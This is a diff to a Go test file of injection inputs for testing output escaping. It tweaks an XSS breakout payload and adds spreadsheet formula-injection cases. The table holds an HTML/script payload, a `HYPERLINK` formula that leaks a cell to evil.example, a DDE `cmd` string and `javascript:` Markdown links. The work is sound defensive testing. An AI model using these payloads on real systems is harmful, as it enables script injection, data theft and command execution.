@@ -95,7 +95,7 @@ func plain(s string) yaml.Node { return yaml.Node{Kind: yaml.ScalarNode, Value: 
 // payload is a text that breaks out of whatever it is put into without being written
 // for it: an element, an attribute in either kind of quotation marks, a script, a
 // comment, CDATA, a string of JavaScript, a template, an address.
-const payload = `</script></title></style></textarea><script>alert(1)</script><img src=x onerror=alert(1)>" onmouseover="alert(1)" ' onfocus='alert(1)' autofocus --> <!-- ]]> <![CDATA[ &lt;b&gt; &#x3c;i> \x3c \u003c \" ${x} {{.Site}} {{template "x"}} ` + "`\u2028\u2029\u0085"
+const payload = `</script></title></style></textarea><script>alert(1)</script><img src=x onerror=alert(1)>" onmouseover="alert(1)" ' onfocus='alert(1)' autofocus --> <!-- ]]> <![CDATA[ &lt;b&gt; &#x3c;i> \x3c \u003c \" ${x} {{.Site}} {{template "x"}} ` + "`\u2028\u2029"
 
 // wrong is what is put where something else belongs.
 var wrong = []struct {
@@ -209,6 +209,8 @@ var texts = []struct{ name, text string }{
 	{"a formula", `=HYPERLINK("http://evil.example/?x="&A1,"click")`},
 	{"a formula behind a tab", "\t+cmd|' /C calc'!A0"},
 	{"a formula behind a blank", " \u00a0@SUM(1)"},
+	{"a formula behind a semicolon", ";=1+1"},
+	{"a formula behind a semicolon and a mark", "a; \"@SUM(1)\""},
 	{"a formula of another width", "＝1+1"},
 	{"Markdown", "[x](javascript:alert(1)) ![x](//evil.example/x.png) [[nada]] [^nada] **x** `x` | x | <b>"},
 	{"signs alone", "\"'<>&;:|{}[]()*_~`#"},
